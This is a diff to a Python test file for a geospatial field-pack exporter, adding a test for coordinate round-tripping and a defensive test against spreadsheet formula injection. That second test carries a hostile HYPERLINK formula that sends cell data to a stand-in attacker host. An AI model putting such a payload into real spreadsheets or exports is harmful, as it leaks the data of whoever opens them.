@@ -7,6 +7,7 @@ import csv
 import geopandas as gpd
 import gpxpy
 import mgrs
+from openpyxl import load_workbook
 from pyproj import Geod
 from shapely.geometry import Point, box
 
@@ -52,6 +53,16 @@ def test_secret_site_is_generalised_below_secret_access():
     assert not may_see_exact("public", "public")  # public exports never show outlines
 
 
+def test_a_formula_in_a_site_name_stays_text_in_the_pack_workbook(tmp_path):
+    """openpyxl stores a string starting with "=" as a formula; the pack's workbook stores it as
+    the text it is, so opening the pack runs nothing (the CSV prefixes an apostrophe instead)."""
+    name = '=HYPERLINK("http://evil.example/x?"&A1,"open")'
+    paths = write_field_pack([Waypoint("D-1", name, 47.9, 106.9, "2024-06-01", "high", 900.0, "look")], tmp_path)
+    cell = load_workbook(paths["xlsx"]).active.cell(2, 4)
+    assert (cell.value, cell.data_type) == (name, "s")
+    assert next(csv.DictReader(paths["csv"].open()))["site_name"] == "'" + name
+
+
 def test_field_pack_round_trips_within_a_metre(tmp_path):
     wps = [Waypoint(f"D-{i}", HOSTILE, 47.9 + i * 0.01, 106.9 + i * 0.013, "2024-06-01", "high", 900.0, "look")
            for i in range(4)]
@@ -73,6 +84,13 @@ def test_field_pack_round_trips_within_a_metre(tmp_path):
         assert r["mgrs"] == m.toMGRS(w.lat, w.lon, MGRSPrecision=5)
         lat, lon = m.toLatLon(r["mgrs"])
         assert GEOD.inv(lon, lat, w.lon, w.lat)[2] < 2.0  # 1 m MGRS cell
+    sheet = load_workbook(paths["xlsx"]).active
+    header = [c.value for c in sheet[1]]
+    cells = {row[header.index("detection_id")].value: row for row in sheet.iter_rows(min_row=2)}
+    for w in wps:
+        r = {h: c for h, c in zip(header, cells[w.detection_id])}
+        assert GEOD.inv(r["lon"].value, r["lat"].value, w.lon, w.lat)[2] < 1.0 and r["mgrs"].value == w.mgrs
+        assert r["site_name"].value == HOSTILE
         q = gj[gj["detection_id"] == w.detection_id].geometry.iloc[0]
         assert GEOD.inv(q.x, q.y, w.lon, w.lat)[2] < 1.0
     assert [int(r["order"]) for r in rows] == [1, 2, 3, 4]
